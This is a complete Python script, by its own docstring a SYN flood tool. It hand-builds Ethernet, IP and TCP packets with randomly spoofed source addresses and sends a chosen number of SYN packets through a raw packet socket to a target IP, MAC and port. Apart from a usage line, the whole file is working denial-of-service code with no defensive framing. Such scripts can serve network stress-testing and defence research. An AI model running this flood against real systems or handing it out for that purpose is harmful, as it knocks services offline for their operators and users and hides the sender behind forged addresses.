#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""SYN flood from random spoofed sources over a packet socket (faster than scapy's sendp).
Usage: syn_flood.py IFACE DST_IP DST_MAC PORT COUNT"""
import os
import random
import socket
import struct
import sys


def csum(b):
    if len(b) & 1:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s & 0xffff) + (s >> 16)
    s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def main():
    iface, dst, dmac, port, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    smac = s.getsockname()[4]
    eth = bytes.fromhex(dmac.replace(":", "")) + smac + b"\x08\x00"
    d = socket.inet_aton(dst)
    opts = b"\x02\x04\x05\xb4\x01\x03\x03\x07"  # MSS 1460, NOP, WS 7
    rnd = random.Random(int.from_bytes(os.urandom(4), "big"))
    for _ in range(count):
        src = struct.pack("!I", rnd.randint(0x0b000000, 0x63ffffff))  # 11.0.0.0 - 99.255.255.255
        sport = rnd.randint(1024, 65535)
        tcp = struct.pack("!HHIIBBHHH", sport, port, rnd.getrandbits(32), 0, 7 << 4, 0x02, 64240, 0, 0) + opts
        c = csum(src + d + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
        tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src, d)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        try:
            s.send(eth + ip + tcp)
        except BlockingIOError:
            pass


if __name__ == "__main__":
    main()
